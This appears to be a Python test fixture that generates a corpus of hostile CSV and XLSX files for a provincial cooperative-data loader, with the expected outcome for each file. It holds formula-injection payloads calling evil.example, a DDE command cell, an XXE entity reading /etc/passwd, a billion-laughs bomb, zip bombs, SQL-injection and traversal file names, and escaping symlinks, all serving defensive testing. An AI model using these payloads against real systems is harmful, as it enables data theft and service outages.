"""The hostile-input corpus: files a provincial office (or an attacker with write access to
the dropzone) could drop, each with the outcome and rule it must end with.

Every file is generated here (nothing binary is committed). `build(dropzone, outside)`
writes them all with increasing arrival times (mtimes) in list order; `outside` is a
folder next to the dropzone, for the symlink cases. A case's `check(conn, row)` asserts
more about what landed (row = its raw.submissions row as a dict, or None).

Expected outcomes are the final ones, after the loader AND the validation gate:
`accepted`, `accepted_with_warnings`, `rejected`, `duplicate`, or None for a file that
must not be recorded at all (not a submission: hidden bookkeeping, outside the dropzone).
"""

from __future__ import annotations

import codecs
import csv
import io
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from . import crafted_xlsx as cx

KOP = [
    "nik_koperasi",
    "nama_koperasi",
    "kabupaten_kota",
    "jenis_koperasi",
    "status_aktif",
    "jumlah_anggota_pria",
    "jumlah_anggota_wanita",
    "aset",
    "shu",
    "predikat_kesehatan",
]
NOW = datetime.now(UTC)


def kop_row(province: str, i: int, **override: str) -> list[str]:
    row = dict(
        zip(
            KOP,
            [
                f"{province}{i:08d}",
                f"Koperasi Uji {i}",
                "Kab. Konawe" if i % 2 else "KOTA KENDARI",
                "simpan pinjam",
                "aktif",
                str(10 + i),
                str(12 + i),
                f"{i}.000.000",
                "-12.345" if i == 2 else "1.000",
                "sehat",
            ],
            strict=True,
        )
    )
    row.update(override)
    return list(row.values())


def kop_rows(province: str, n: int = 3, **override_last: str) -> list[list[str]]:
    rows = [kop_row(province, i) for i in range(1, n + 1)]
    if override_last:
        rows[-1] = kop_row(province, n, **override_last)
    return rows


def csv_text(rows: list[list[str]], header: list[str] | None = KOP, sep: str = ";") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=sep, lineterminator="\n")
    writer.writerows(([header] if header else []) + rows)
    return out.getvalue()


def kop_csv(province: str, n: int = 3, **override_last: str) -> bytes:
    return csv_text(kop_rows(province, n, **override_last)).encode()


def kop_xlsx(province: str, rows: list[list[Any]] | None = None) -> bytes:
    return cx.xlsx([KOP, *(rows or kop_rows(province))])


def junk(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


# ---------------------------------------------------------------- the cases


@dataclass
class Case:
    name: str
    path: str  # relative to the dropzone
    data: bytes | Callable[[Path, Path], None]  # bytes, or make(target, outside)
    outcome: str | None
    rule: str | None = None
    message: str | None = None  # fragment of the clerk message of `rule`
    check: Callable[[Any, dict | None], None] | None = None
    why: str = ""  # one line for the reliability document


def rows_of(conn, row: dict, table: str = "koperasi", cols: str = "*") -> list[tuple]:
    return conn.execute(
        f"select {cols} from raw.{table} where submission_id = %s order by row_number",
        (row["submission_id"],),
    ).fetchall()


def no_rows(conn, row: dict) -> None:
    """A rejected file leaves nothing in the dataset tables (the quarantine is its own)."""
    for table in ("koperasi", "umkm", "kerja_sama"):
        assert rows_of(conn, row, table) == [], table


def loaded(n: int, table: str = "koperasi") -> Callable:
    def check(conn, row):
        assert len(rows_of(conn, row, table)) == n

    return check


def quarantined(rule: str, count: int, loaded_rows: int, table: str = "koperasi") -> Callable:
    def check(conn, row):
        got = conn.execute(
            "select rule from raw.quarantine where submission_id = %s", (row["submission_id"],)
        ).fetchall()
        assert sum(rule in r.split(",") for (r,) in got) == count, got
        assert len(rows_of(conn, row, table)) == loaded_rows
        reasons = conn.execute(
            "select reason from raw.quarantine where submission_id = %s", (row["submission_id"],)
        ).fetchall()
        assert all(0 < len(r) < 2000 for (r,) in reasons), "short reasons for the clerk"

    return check


def names_are(*expected: str) -> Callable:
    def check(conn, row):
        assert [r[0] for r in rows_of(conn, row, cols="nama_koperasi")] == list(expected)

    return check


def _symlink_to_outside(target: Path, outside: Path) -> None:
    secret = outside / "rahasia_koperasi_17_2024.csv"
    secret.write_bytes(kop_csv("17"))  # a VALID submission: loading it would be the bug
    target.symlink_to(secret)


def _symlinked_dir_outside(target: Path, outside: Path) -> None:
    folder = outside / "folder_lain"
    folder.mkdir()
    (folder / "koperasi_18_2024.csv").write_bytes(kop_csv("18"))
    target.symlink_to(folder, target_is_directory=True)


def _symlink_inside(target: Path, outside: Path) -> None:
    target.symlink_to(Path("..") / "koperasi_19_2024.csv")  # the case just before


def _wide_header(n: int) -> bytes:
    header = KOP + [f"kolom tambahan {i}" for i in range(n - len(KOP))]
    rows = [r + [f"x{i}" for i in range(n - len(KOP))] for r in kop_rows("21")]
    return csv_text(rows, header).encode()


def _wide_row(n: int, cell: str | None = None) -> bytes:
    rows = kop_rows("31")
    rows[1] = rows[1] + [str(i) if cell is None else cell for i in range(n - len(KOP))]
    return csv_text(rows).encode()


def _nul_deep() -> bytes:
    body = csv_text(kop_rows("35", 2000)).encode()  # ~150 KB, beyond the 64 KB sniff sample
    cut = body.rfind(b"\n", 0, 120_000) + 1
    return body[:cut] + b"0035999999;Koperasi \x00 NUL;Kab. Malang;jasa;aktif;1;1;1;1;sehat\n"


def _field_over_limit() -> bytes:
    rows = kop_rows("36")
    rows[1][1] = "A" * (16 * 1024 * 1024 + 10)  # above the reader's 16 Mi-character cell limit
    return csv_text(rows).encode()


def _cp1252() -> bytes:
    rows = kop_rows("51")
    rows[0][1] = "Koperasi Karya Sé Bersama"
    rows[1][1] = "Koperasi Niño Jaya – Bali"
    return csv_text(rows).encode("cp1252")


def _mixed_encoding() -> bytes:
    rows = kop_rows("52")
    rows[0][1] = "Koperasi Sé Utama"  # this line UTF-8 ...
    head = csv_text(rows[:1]).encode("utf-8")
    rows[1][1] = "Koperasi Café Senja"  # ... this one pasted from a Windows-1252 file
    return head + csv_text(rows[1:], header=None).encode("cp1252")


def _formulas_csv() -> bytes:
    rows = kop_rows("53", 4)
    rows[0][1] = '=HYPERLINK("http://evil.example/x?d="&A1,"Klik di sini")'
    rows[1][1] = "=1+1"
    rows[2][1] = "+SUM(A1:A9)"
    rows[3][1] = "@cmd|' /C calc'!A0"
    # a cell with `;` would need quotes; these have none
    return csv_text(rows).encode()


FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/x?d="&A1,"Klik di sini")',
    "=1+1",
    "+SUM(A1:A9)",
    "@cmd|' /C calc'!A0",
]


def _xlsx_formulas() -> bytes:
    header = cx.text_row(1, KOP[:5])
    cached = cx.row_xml(
        2,
        [
            cx.inline("A2", "006100000001"),
            '<c r="B2" t="str"><f>HYPERLINK("http://evil.example/","klik")</f><v>klik</v></c>',
            cx.inline("C2", "Kab. Sambas"),
            cx.inline("D2", "jasa"),
            cx.inline("E2", "aktif"),
        ],
    )
    as_text = cx.text_row(3, ["006100000002", '=HYPERLINK("http://evil.example/","klik")'])
    as_text = as_text.replace("</row>", "") + (
        cx.inline("C3", "Kab. Sambas")
        + cx.inline("D3", "jasa")
        + cx.inline("E3", "aktif")
        + "</row>"
    )
    return cx.with_sheet([header, cached, as_text])


def _xlsx_error_cells() -> bytes:
    header = cx.text_row(
        1, ["nik_koperasi", "nama_koperasi", "kabupaten_kota", "status_aktif", "aset"]
    )
    rows = [header]
    for n, value in ((2, "<v>1000</v>"), (3, "<v>2000</v>"), (4, None)):
        cells = [
            cx.inline(f"A{n}", f"00620000000{n}"),
            cx.inline(f"B{n}", f"Koperasi {n}"),
            cx.inline(f"C{n}", "Kab. Kapuas"),
            cx.inline(f"D{n}", "aktif"),
            f'<c r="E{n}">{value}</c>' if value else f'<c r="E{n}" t="e"><v>#REF!</v></c>',
        ]
        rows.append(cx.row_xml(n, cells))
    return cx.with_sheet(rows)


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _entity_sheet(doctype: str, entity: str) -> bytes:
    rows = [
        cx.text_row(1, KOP[:5]),
        cx.row_xml(
            2,
            [
                cx.inline("A2", "0063000001"),
                f'<c r="B2" t="inlineStr"><is><t>{entity}</t></is></c>',
                cx.inline("C2", "Kab. Banjar"),
                cx.inline("D2", "jasa"),
                cx.inline("E2", "aktif"),
            ],
        ),
    ]
    return cx.with_sheet(rows, doctype)


def _bit_flipped() -> bytes:
    data = bytearray(kop_xlsx("65", kop_rows("65", 400)))
    offset = data.find(b"xl/worksheets/sheet1.xml") + 200  # inside the sheet's deflate stream
    for i in range(offset, offset + 64):
        data[i] ^= 0x5A
    return bytes(data)


def _plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("laporan.txt", "bukan excel")
    return out.getvalue()


def _papua(province: str, column: str, value: str) -> bytes:
    rows = [[value, *r] for r in kop_rows(province)]
    return csv_text(rows, [column, *KOP]).encode()


def _header_injection() -> bytes:
    header = [*KOP, '"; drop table raw.submissions; --', "nama_koperasi) values (1); --", "extra"]
    rows = [[*r, "a", "b", "c"] for r in kop_rows("82")]
    return csv_text(rows, header).encode()


def _future_year() -> str:
    """Next year as the loader sees it (today in UTC+9, the easternmost Indonesian zone)."""
    return str(datetime.now(timezone(timedelta(hours=9))).year + 1)


def _current_quarter() -> str:
    """The running quarter in UTC (never later than in UTC+9, so it has started there)."""
    return f"{NOW.year}Q{(NOW.month - 1) // 3 + 1}"


def _whitespace_in_cells() -> bytes:
    """Text as pasted from Word or a web page: runs of spaces, tabs and non-breaking spaces
    (U+00A0) inside cells, spaces around them."""
    rows = kop_rows("71")
    rows[0][1] = "Koperasi  Maju   Bersama"
    rows[0][3] = "simpan   pinjam"
    rows[1][1] = "  Koperasi\tTani\t\tMakmur "
    rows[1][2] = "Kab.\u00a0 Konawe"
    rows[2][1] = "Koperasi\u00a0Nelayan\u00a0\u00a0Sejahtera\u00a0"
    rows[2][9] = "cukup \t sehat"
    rows[2][0] = rows[2][0] + " "
    return csv_text(rows).encode()


def _kerja_sama_dates() -> bytes:
    header = [
        "nomor_dokumen",
        "jenis_dokumen",
        "judul",
        "nama_mitra",
        "jenis_mitra",
        "tanggal_tanda_tangan",
    ]
    rows = [
        ["PKS/01/2024", "PKS", "Pelatihan", "PT Maju", "swasta", "31/02/2024"],
        ["PKS/02/2024", "PKS", "Promosi", "PT Jaya", "swasta", "29/02/2023"],
        ["PKS/03/2024", "PKS", "Pameran", "PT Raya", "swasta", "29/02/2024"],
    ]
    return csv_text(rows, header).encode()


def _umkm_nib() -> bytes:
    header = ["nib", "nama_usaha", "kabupaten_kota", "omzet_tahunan"]
    rows = [
        ["1.23457E+12", "Warung A", "Kab. Jember", "100.000.000"],
        ["1,23457E+12", "Warung B", "Kab. Jember", "100.000.000"],
        ["9120001234567", "Warung C", "Kab. Jember", "100.000.000"],
    ]
    return csv_text(rows, header).encode()


def _duplicate_nik() -> bytes:
    rows = kop_rows("94")
    rows[2][0] = rows[0][0]
    return csv_text(rows).encode()


def _truncated_mid_row() -> bytes:
    body = kop_csv("95", 3)
    return body[: body.rfind(b"Kab.")]  # the last line stops before kabupaten_kota


def _header_repeated() -> bytes:
    """Two exports pasted one under the other: the second header row is read as data."""
    return csv_text(kop_rows("96")).encode() + csv_text([], KOP).encode()


CASES: list[Case] = [
    # --- controls: good files in the same run load ---
    Case("control_csv", "74/koperasi_74_2024.csv", kop_csv("74"), "accepted", check=loaded(3)),
    Case("control_xlsx", "73/koperasi_73_2024.xlsx", kop_xlsx("73"), "accepted", check=loaded(3)),
    # --- broken XLSX ---
    Case(
        "xlsx_truncated_half",
        "koperasi_11_2024.xlsx",
        kop_xlsx("11")[:1500],
        "rejected",
        "file.unreadable",
        "terpotong",
        no_rows,
    ),
    Case(
        "xlsx_truncated_tail",
        "koperasi_11_2023.xlsx",
        kop_xlsx("11")[:-30],
        "rejected",
        "file.unreadable",
        "rusak",
        no_rows,
    ),
    Case(
        "xlsx_sheet_not_xml",
        "koperasi_12_2024.xlsx",
        cx.replace_part(kop_xlsx("12"), cx.SHEET, "<<<not xml at all"),
        "rejected",
        "file.unreadable",
        "rusak",
        no_rows,
    ),
    Case(
        "xlsx_bit_flipped_deflate",
        "koperasi_65_2024.xlsx",
        _bit_flipped(),
        "rejected",
        "file.unreadable",
        "rusak",
        no_rows,
    ),
    Case(
        "xlsx_zip_bomb_inflates_150MB",
        "koperasi_13_2024.xlsx",
        cx.zip_bomb(150 * 1024 * 1024),
        "rejected",
        "file.too_large",
        "terlalu besar",
        no_rows,
    ),
    Case(
        "xlsx_zip_bomb_declares_4GB",
        "koperasi_13_2023.xlsx",
        cx.forge_size(kop_xlsx("13"), cx.SHEET, 0xF000_0000),
        "rejected",
        "file.too_large",
        "terlalu besar",
        no_rows,
    ),
    Case(
        "xlsx_declares_less_than_it_inflates",
        "koperasi_13_2022.xlsx",
        cx.forge_size(kop_xlsx("13", kop_rows("13", 500)), cx.SHEET, 300),
        "rejected",
        "file.unreadable",
        "rusak",
        no_rows,
    ),
    Case(
        "xlsx_billion_laughs",
        "koperasi_63_2024.xlsx",
        _entity_sheet(BILLION_LAUGHS, "&lol9;"),
        "rejected",
        "file.unreadable",
        "rusak",
        no_rows,
    ),
    Case(
        "xlsx_external_entity_xxe",
        "koperasi_63_2023.xlsx",
        _entity_sheet(XXE, "&xxe;"),
        "rejected",
        "file.unreadable",
        "rusak",
        no_rows,
    ),
    Case(
        "xlsx_ole2_xls_renamed",
        "koperasi_14_2024.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + junk(4096, 1),
        "rejected",
        "file.old_xls",
        "simpan ulang sebagai .xlsx",
    ),
    Case(
        "xlsx_is_really_csv",
        "koperasi_14_2023.xlsx",
        kop_csv("14"),
        "rejected",
        "file.unreadable",
        "bukan berkas Excel",
    ),
    Case(
        "xlsx_zip_without_workbook",
        "koperasi_14_2022.xlsx",
        _plain_zip(),
        "rejected",
        "file.archive",
        "arsip ZIP",
    ),
    Case(
        "xlsx_nan_number_cell",
        "koperasi_15_2024.xlsx",
        cx.with_sheet(
            [
                cx.text_row(1, KOP[:5] + ["aset"]),
                cx.text_row(2, ["0015000001", "A", "Kab. Agam", "jasa", "aktif"]).replace(
                    "</row>", '<c r="F2"><v>NaN</v></c></row>'
                ),
            ]
        ),
        "rejected",
        "file.unreadable",
        "rusak",
    ),
    Case(
        "xlsx_error_values_in_money",
        "koperasi_62_2024.xlsx",
        _xlsx_error_cells(),
        "accepted_with_warnings",
        "value.not_a_number",
        "#REF!",
        quarantined("value.not_a_number", 1, 2),
    ),
    Case(
        "xlsx_formulas_never_evaluated",
        "koperasi_61_2024.xlsx",
        _xlsx_formulas(),
        "accepted",
        check=names_are("klik", '=HYPERLINK("http://evil.example/","klik")'),
        why="a formula cell gives its cached value; a formula typed as text stays text",
    ),
    Case(
        "xlsx_dataset_sheet_not_first",
        "koperasi_64_2024.xlsx",
        cx.xlsx_sheets(
            [
                ("Petunjuk", [["Isi lembar koperasi"], ["=SUM(A1)"]]),
                ("Koperasi", [KOP, *kop_rows("64")]),
            ]
        ),
        "accepted",
        check=loaded(3),
    ),
    # --- broken CSV / encodings ---
    Case(
        "csv_binary_junk",
        "koperasi_16_2024.csv",
        junk(8192, 2),
        "rejected",
        "file.unreadable",
        "biner",
    ),
    Case(
        "csv_is_really_xlsx",
        "koperasi_16_2023.csv",
        kop_xlsx("16"),
        "rejected",
        "file.unreadable",
        ".xlsx",
    ),
    Case(
        "csv_utf16",
        "koperasi_16_2022.csv",
        codecs.BOM_UTF16_LE + csv_text(kop_rows("16")).encode("utf-16-le"),
        "accepted",
        check=loaded(3),
        why="Excel's 'Unicode text' is read (contract: UTF-16 with or without BOM)",
    ),
    Case(
        "csv_windows_1252",
        "koperasi_51_2024.csv",
        _cp1252(),
        "accepted",
        check=names_are("Koperasi Karya Sé Bersama", "Koperasi Niño Jaya – Bali", "Koperasi Uji 3"),
    ),
    Case(
        "csv_mixed_utf8_and_1252",
        "koperasi_52_2024.csv",
        _mixed_encoding(),
        "accepted",
        check=names_are("Koperasi Sé Utama", "Koperasi Café Senja", "Koperasi Uji 3"),
    ),
    Case(
        "csv_nul_byte_deep_in_file",
        "koperasi_35_2024.csv",
        _nul_deep(),
        "rejected",
        "file.unreadable",
        "NUL",
        no_rows,
        why="1,232 rows were already streamed into COPY: the file's transaction rolls back",
    ),
    Case(
        "csv_cell_over_16Mi_chars",
        "koperasi_36_2024.csv",
        _field_over_limit(),
        "rejected",
        "file.malformed_csv",
        "tanda kutip",
        no_rows,
    ),
    Case(
        "csv_truncated_mid_row",
        "koperasi_95_2024.csv",
        _truncated_mid_row(),
        "accepted_with_warnings",
        "value.required",
        "kabupaten_kota",
        quarantined("value.required", 1, 2),
    ),
    Case(
        "csv_header_repeated_inside",
        "koperasi_96_2024.csv",
        _header_repeated(),
        "accepted_with_warnings",
        "value.identifier_shape",
        "nik_koperasi",
        quarantined("value.identifier_shape", 1, 3),
    ),
    # --- empty files ---
    Case("csv_0_bytes", "koperasi_17_2023.csv", b"", "rejected", "file.empty", "kosong"),
    Case("xlsx_0_bytes", "koperasi_17_2022.xlsx", b"", "rejected", "file.empty", "kosong"),
    Case(
        "csv_header_only",
        "koperasi_18_2023.csv",
        csv_text([]).encode(),
        "rejected",
        "file.empty",
        "tidak berisi baris data",
    ),
    Case(
        "xlsx_header_only",
        "koperasi_18_2022.xlsx",
        cx.xlsx([KOP]),
        "rejected",
        "file.empty",
        "tidak berisi baris data",
    ),
    Case(
        "csv_blank_lines_only",
        "koperasi_19_2023.csv",
        b"\n\n   \n;;;;\n\n",
        "rejected",
        "file.empty",
        "kosong",
    ),
    Case(
        "csv_only_a_total_row",
        "koperasi_19_2022.csv",
        csv_text([["JUMLAH", "", "", "", "", "", "", "3.000.000", "", ""]]).encode(),
        "rejected",
        "file.empty",
        "tidak berisi baris data",
    ),
    # --- columns ---
    Case(
        "csv_duplicate_required_column",
        "koperasi_32_2024.csv",
        csv_text([r + [r[0]] for r in kop_rows("32")], [*KOP, "nik_koperasi"]).encode(),
        "rejected",
        "file.duplicate_column",
        "nik_koperasi",
    ),
    Case(
        "csv_duplicate_by_alias",
        "koperasi_32_2023.csv",
        csv_text([[r[0], *r] for r in kop_rows("32")], ["NIK", *KOP]).encode(),
        "rejected",
        "file.duplicate_column",
        "nik_koperasi",
    ),
    Case(
        "csv_missing_required_column",
        "koperasi_33_2024.csv",
        csv_text([r[:4] + r[5:] for r in kop_rows("33")], KOP[:4] + KOP[5:]).encode(),
        "rejected",
        "file.no_header",
        "status_aktif",
    ),
    Case(
        "csv_no_header_at_all",
        "koperasi_33_2023.csv",
        csv_text(kop_rows("33"), header=None).encode(),
        "rejected",
        "file.no_header",
        "baris judul kolom tidak ditemukan",
    ),
    Case(
        "csv_10000_column_header",
        "koperasi_21_2024.csv",
        _wide_header(10_000),
        "accepted",
        check=lambda conn, row: _extra_keys(conn, row, 10_000 - len(KOP)),
    ),
    Case(
        "csv_10000_cell_row",
        "koperasi_31_2024.csv",
        _wide_row(10_000),
        "rejected",
        "file.malformed_csv",
        "baris 3: berisi 10000 kolom",
        no_rows,
        why="values past the header's columns: a separator inside a cell shifts the columns",
    ),
    Case(
        "csv_10000_empty_trailing_cells",
        "koperasi_31_2023.csv",
        _wide_row(10_000, ""),
        "accepted",
        check=loaded(3),
        why="Excel's trailing empty separators (`a;b;c;;;`) are no data",
    ),
    Case(
        "csv_header_names_sql",
        "koperasi_82_2024.csv",
        _header_injection(),
        "accepted",
        check=lambda conn, row: _header_sql_kept_as_data(conn, row),
        why="header cells never reach SQL: unknown columns go to the jsonb `extra`",
    ),
    # --- big cells ---
    Case(
        "csv_1MB_text_cell",
        "koperasi_34_2024.csv",
        csv_text(kop_rows("34", nama_koperasi="K" * 1_000_000)).encode(),
        "accepted",
        check=lambda conn, row: _name_length(conn, row, 3, 1_000_000),
    ),
    Case(
        "csv_1MB_number_cell",
        "koperasi_34_2023.csv",
        csv_text(kop_rows("34", aset="9" * 1_000_000)).encode(),
        "accepted_with_warnings",
        "value.out_of_range",
        "terlalu besar",
        quarantined("value.out_of_range", 1, 2),
    ),
    Case(
        "csv_1MB_digits_in_a_count",
        "koperasi_34_2022.csv",
        csv_text(kop_rows("34", jumlah_anggota_pria="9" * 1_000_000)).encode(),
        "accepted_with_warnings",
        "value.out_of_range",
        "terlalu besar",
        quarantined("value.out_of_range", 1, 2),
        why="refused before int() (which would take minutes on a million digits)",
    ),
    Case(
        "csv_exponent_beyond_decimal_context",
        "koperasi_34_2021.csv",
        csv_text(kop_rows("34", aset="1E+999999999")).encode(),
        "accepted_with_warnings",
        "value.out_of_range",
        "terlalu besar",
        quarantined("value.out_of_range", 1, 2),
    ),
    Case(
        "csv_whitespace_inside_text_cells",
        "koperasi_71_2024.csv",
        _whitespace_in_cells(),
        "accepted",
        check=names_are(
            "Koperasi Maju Bersama", "Koperasi Tani Makmur", "Koperasi Nelayan Sejahtera"
        ),
        why="clean_text strips cells and collapses inner runs of spaces, tabs and U+00A0 to "
        "one space (names stored so; categories and regencies still match); the only corpus "
        "cells of that shape: the differential test sees a change of that collapsing here",
    ),
    Case(
        "csv_formula_text_cells",
        "koperasi_53_2024.csv",
        _formulas_csv(),
        "accepted",
        check=names_are(*FORMULA_TEXTS),
        why="stored as text, never evaluated; extracts neutralise them (tests/extract)",
    ),
    # --- values ---
    Case(
        "csv_date_31_feb",
        "kerja_sama_71_2025Q2.csv",
        _kerja_sama_dates(),
        "accepted_with_warnings",
        "value.bad_date",
        "tidak ada di kalender",
        quarantined("value.bad_date", 2, 1, "kerja_sama"),
    ),
    Case(
        "csv_negative_money",
        "koperasi_72_2024.csv",
        csv_text(
            [kop_row("72", 1, aset="-5.000"), kop_row("72", 2), kop_row("72", 3, aset="(1.234)")]
        ).encode(),
        "accepted_with_warnings",
        "value.negative",
        "negatif",
        quarantined("value.negative", 2, 1),
        why="shu may be negative (row 2 keeps -12.345); aset may not",
    ),
    Case(
        "csv_parentheses_only_number",
        "koperasi_72_2023.csv",
        csv_text(kop_rows("72", aset="()")).encode(),
        "accepted_with_warnings",
        "value.not_a_number",
        "bukan angka",
        quarantined("value.not_a_number", 1, 2),
    ),
    Case(
        "csv_huge_count",
        "koperasi_72_2022.csv",
        csv_text(kop_rows("72", jumlah_anggota_pria="9" * 30)).encode(),
        "accepted_with_warnings",
        "value.out_of_range",
        "terlalu besar",
        quarantined("value.out_of_range", 1, 2),
    ),
    Case(
        "csv_nib_scientific_notation",
        "umkm_35_2024S1.csv",
        _umkm_nib(),
        "accepted_with_warnings",
        "value.scientific_notation",
        "notasi ilmiah",
        quarantined("value.scientific_notation", 2, 1, "umkm"),
    ),
    Case(
        "csv_duplicate_nik_rows",
        "koperasi_94_2024.csv",
        _duplicate_nik(),
        "rejected",
        "gx.koperasi.nik_koperasi.unique_per_submission",
        "NIK koperasi yang sama",
        why="decided by the validation gate (critical rule); rows stay in raw for inspection",
    ),
    Case(
        "csv_every_row_invalid",
        "koperasi_94_2023.csv",
        csv_text([kop_row("94", i, status_aktif="mungkin") for i in (1, 2)]).encode(),
        "rejected",
        "file.no_valid_rows",
        "semua 2 baris ditolak",
        no_rows,
    ),
    # --- provinces inside the rows ---
    Case(
        "rows_of_another_province",
        "koperasi_75_2024.csv",
        _papua("75", "provinsi", "Jawa Timur"),
        "rejected",
        "file.wrong_province",
        "Jawa Timur",
        no_rows,
    ),
    Case(
        "rows_with_another_bps_code",
        "koperasi_75_2023.csv",
        _papua("75", "kode_bps", "3500"),
        "rejected",
        "file.wrong_province",
        "Jawa Timur",
        no_rows,
    ),
    Case(
        "papua_91_kode_bps_9400",
        "koperasi_91_2024.csv",
        _papua("91", "kode_bps", "9400"),
        "accepted",
        check=loaded(3),
        why="BPS 9400 is Papua = Kemendagri 91",
    ),
    Case(
        "papua_91_kode_bps_9100",
        "koperasi_91_2023.csv",
        _papua("91", "kode_bps", "9100"),
        "rejected",
        "file.wrong_province",
        "Papua Barat (92)",
        no_rows,
        why="BPS 9100 is Papua Barat (Kemendagri 92), not Papua 91",
    ),
    Case(
        "papua_barat_92_provinsi_91",
        "koperasi_92_2024.csv",
        _papua("92", "provinsi", "91"),
        "rejected",
        "file.wrong_province",
        "Papua (91)",
        no_rows,
    ),
    Case(
        "papua_barat_92_kode_bps_9100",
        "koperasi_92_2023.csv",
        _papua("92", "kode_bps", "9100"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "kode_bps_column_with_kemendagri_91",
        "koperasi_91_2022.csv",
        _papua("91", "kode_bps", "91"),
        "accepted_with_warnings",
        "value.unknown_province",
        "kode BPS",
        loaded(3),
    ),
    Case(
        "file_name_with_bps_code_9100",
        "koperasi_9100_2024.csv",
        kop_csv("92"),
        "rejected",
        "file.name_unknown_province",
        "kode Kemendagri '92'",
    ),
    # --- periods ---
    Case(
        "period_in_the_future",
        f"koperasi_76_{_future_year()}.csv",
        kop_csv("76"),
        "rejected",
        "file.period_in_future",
        "belum dimulai",
        no_rows,
    ),
    Case(
        "period_in_the_far_future",
        "koperasi_76_2099S2.csv",
        kop_csv("76"),
        "rejected",
        "file.period_in_future",
        "2099S2",
    ),
    Case(
        "period_running_now",
        f"koperasi_76_{_current_quarter()}.csv",
        kop_csv("76"),
        "accepted",
        check=loaded(3),
        why="the current period has started: a register as of today is plausible",
    ),
    # --- file names (each body differs: a byte-identical body would be a duplicate of the
    # first one, and identical rows under another period a warning) ---
    Case(
        "name_starting_with_dotdot",
        "..\\..\\koperasi_81_2024.csv",
        kop_csv("81"),
        None,
        why="a literal `..\\` in a Linux file name starts with `.`: bookkeeping, ignored",
    ),
    Case(
        "name_with_backslash_traversal",
        "sub\\..\\..\\koperasi_81_2019.csv",
        kop_csv("81"),
        "accepted",
        check=loaded(3),
        why="only the last part of a name is parsed; nothing is written anywhere",
    ),
    Case(
        "name_with_encoded_traversal",
        "koperasi_81_2023_..%2F..%2Fetc%2Fpasswd.csv",
        kop_csv("81", nama_koperasi="Koperasi 2023"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "name_unicode_and_spaces",
        "sub folder ✓/Koperasi_Sumut_2024 (revisi é) ✓.csv",
        kop_csv("12"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "name_255_bytes",
        "koperasi_81_2022_" + "x" * (255 - len("koperasi_81_2022_.csv")) + ".csv",
        kop_csv("81", nama_koperasi="Koperasi 2022"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "name_with_sql",
        "koperasi_81_2021_'); drop table raw.submissions; --.csv",
        kop_csv("81", nama_koperasi="Koperasi 2021"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "name_with_newline",
        "koperasi_81_2020\n[INFO] palsu.csv",
        kop_csv("81", nama_koperasi="Koperasi 2020"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "name_fullwidth_digits",
        "koperasi_７４_2024.csv",
        kop_csv("74"),
        "rejected",
        "file.name_unknown_province",
        "tidak dikenal",
    ),
    Case(
        "name_xls_extension",
        "koperasi_17_2024.xls",
        b"\xd0\xcf\x11\xe0" + junk(512, 3),
        "rejected",
        "file.name_bad_extension",
        ".xls",
    ),
    Case(
        "name_double_extension",
        "koperasi_17_2021.csv.exe",
        kop_csv("17"),
        "rejected",
        "file.name_bad_extension",
        ".exe",
    ),
    Case(
        "name_without_dataset",
        "data_17_2024.csv",
        kop_csv("17"),
        "rejected",
        "file.name_unknown_dataset",
        "harus diawali jenis data",
    ),
    Case(
        "hidden_file_is_bookkeeping",
        ".koperasi_17_2020.csv",
        kop_csv("17"),
        None,
        why="names starting with `.` or `_` are the dropzone's own bookkeeping",
    ),
    # --- symlinks ---
    Case(
        "symlink_to_a_file_outside",
        "koperasi_17_2024.csv",
        _symlink_to_outside,
        "rejected",
        "file.outside_dropzone",
        "di luar folder dropzone",
        no_rows,
        why="the target (a valid submission) is never read",
    ),
    Case(
        "symlinked_folder_outside",
        "tautan_folder",
        _symlinked_dir_outside,
        None,
        why="folders are walked without following links",
    ),
    Case(
        "symlink_target_inside",
        "koperasi_19_2024.csv",
        kop_csv("19"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "symlink_inside_the_dropzone",
        "alias/koperasi_19_2024_tautan.csv",
        _symlink_inside,
        "duplicate",
        "file.duplicate",
        "identik",
        why="a link to a file of the dropzone is that file: recorded as its duplicate",
    ),
    # --- resubmission: a broken revision never replaces the accepted original ---
    Case(
        "resubmission_original",
        "koperasi_93_2024.csv",
        kop_csv("93"),
        "accepted",
        check=loaded(3),
    ),
    Case(
        "resubmission_broken_revision",
        "koperasi_93_2024_revisi.xlsx",
        kop_xlsx("93")[:2000],
        "rejected",
        "file.unreadable",
        "rusak",
        no_rows,
    ),
]


def _extra_keys(conn, row, n: int) -> None:
    got = conn.execute(
        "select row_number, (select count(*) from jsonb_object_keys(extra)) "
        "from raw.koperasi where submission_id = %s and extra is not null order by row_number",
        (row["submission_id"],),
    ).fetchall()
    assert [k for _, k in got] == [n] * 3


def _header_sql_kept_as_data(conn, row) -> None:
    [(extra,)] = conn.execute(
        "select extra from raw.koperasi where submission_id = %s and row_number = 2",
        (row["submission_id"],),
    ).fetchall()
    assert extra == {
        '"; drop table raw.submissions; --': "a",
        "nama_koperasi) values (1); --": "b",
        "extra": "c",
    }
    assert conn.execute("select count(*) from raw.submissions").fetchone()[0] > 0


def _name_length(conn, row, n: int, length: int) -> None:
    got = conn.execute(
        "select length(nama_koperasi) from raw.koperasi where submission_id = %s "
        "order by row_number",
        (row["submission_id"],),
    ).fetchall()
    assert len(got) == n and got[-1][0] == length


def build(dropzone: Path, outside: Path) -> None:
    """Write every case into `dropzone` (arrival times in list order)."""
    dropzone.mkdir(parents=True, exist_ok=True)
